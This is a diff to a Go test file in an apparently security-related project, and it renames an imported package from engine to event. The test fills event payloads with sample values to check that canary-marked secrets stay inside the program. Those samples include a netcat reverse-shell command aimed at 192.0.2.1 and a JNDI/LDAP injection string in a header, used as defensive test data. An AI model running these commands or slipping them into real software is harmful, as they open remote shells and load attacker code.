@@ -11,7 +11,7 @@ import (
 	"testing"
 	"time"
 
-	"ttpctl/internal/engine"
+	"ttpctl/internal/event"
 )
 
 // canary stands at the start of every value that must not leave the program.
@@ -21,9 +21,9 @@ const canary = "CANARY-7f3a"
 // may not be evidence and plain values in the others.
 func secretEvents(t *testing.T) []byte {
 	var b bytes.Buffer
-	for i, k := range engine.Kinds() {
+	for i, k := range event.Kinds() {
 		payload := map[string]any{}
-		for _, id := range engine.FieldsOf(k) {
+		for _, id := range event.FieldsOf(k) {
 			if f := id.Field(); !f.Derived {
 				payload[f.Name] = sampleValue(f)
 			}
@@ -39,23 +39,23 @@ func secretEvents(t *testing.T) []byte {
 	return b.Bytes()
 }
 
-func sampleValue(f engine.Field) any {
+func sampleValue(f event.Field) any {
 	text := "urgent wire send nc -e /bin/sh 192.0.2.1"
 	if !f.Evidence {
 		text = canary + "@example.com send bitcoin http://xn--e1awd7f.example/"
 	}
 	switch f.Type {
-	case engine.TypeNumber:
+	case event.TypeNumber:
 		return 100
-	case engine.TypeBool:
+	case event.TypeBool:
 		return true
-	case engine.TypeNumbers:
+	case event.TypeNumbers:
 		return []int{18, 21}
-	case engine.TypeStrings, engine.TypeEntries:
+	case event.TypeStrings, event.TypeEntries:
 		return []string{text}
-	case engine.TypeHeaders:
+	case event.TypeHeaders:
 		return map[string]string{"Cookie": canary, "X-Probe": "${jndi:ldap://192.0.2.1/a}"}
-	case engine.TypeObject:
+	case event.TypeObject:
 		return map[string]any{"a": 1}
 	}
 	return text
